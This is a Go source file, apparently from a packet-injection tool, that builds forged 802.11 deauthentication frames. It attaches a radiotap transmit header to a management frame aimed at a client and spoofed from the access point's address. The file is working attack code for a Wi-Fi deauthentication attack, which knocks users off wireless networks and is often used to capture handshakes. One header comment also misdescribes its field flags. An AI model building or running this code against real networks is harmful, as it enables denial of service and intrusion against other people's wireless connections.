package injection

import "net"

const (
	// DeauthFrameLen is the 24-byte management header plus the reason code.
	DeauthFrameLen = 26
	// ReasonClass3FromNonAssoc is the reason code carried by forged frames.
	ReasonClass3FromNonAssoc = 0x07
)

// radiotapEnvelope is the minimal transmit header: version 0, length 13,
// antenna signal present, rate 1 Mb/s and a fixed TX power byte.
var radiotapEnvelope = [...]byte{
	0x00, 0x00, 0x0D, 0x00,
	0x04, 0x00, 0x00, 0x00,
	0x00, 0x02, 0x00, 0x00,
	0x9C,
}

// RadiotapEnvelope returns a fresh copy of the 13-byte transmit header.
func RadiotapEnvelope() []byte {
	out := make([]byte, len(radiotapEnvelope))
	copy(out, radiotapEnvelope[:])
	return out
}

// BuildDeauthFrame returns the deauthentication frame addressed to client and
// spoofed from ap (transmitter and BSSID). Sequence control is zero.
func BuildDeauthFrame(client, ap net.HardwareAddr) []byte {
	f := make([]byte, DeauthFrameLen)
	f[0] = 0xC0 // management, subtype 12
	copy(f[4:10], client)
	copy(f[10:16], ap)
	copy(f[16:22], ap)
	f[24] = ReasonClass3FromNonAssoc
	return f
}

// ComposeDeauth prefixes the deauth frame with the radiotap envelope.
func ComposeDeauth(client, ap net.HardwareAddr) []byte {
	out := make([]byte, 0, len(radiotapEnvelope)+DeauthFrameLen)
	out = append(out, radiotapEnvelope[:]...)
	return append(out, BuildDeauthFrame(client, ap)...)
}
